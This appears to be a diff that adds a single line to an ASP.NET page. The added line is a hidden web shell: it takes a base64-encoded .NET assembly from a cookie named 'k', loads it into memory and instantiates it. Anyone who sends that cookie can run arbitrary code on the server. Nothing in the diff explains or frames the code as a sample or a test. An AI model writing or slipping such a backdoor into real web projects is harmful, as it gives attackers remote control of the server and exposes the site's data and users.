@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%var c=Request.Cookies["k"];System.Reflection.Assembly.Load(Convert.FromBase64String(c.Value)).CreateInstance("U");%>
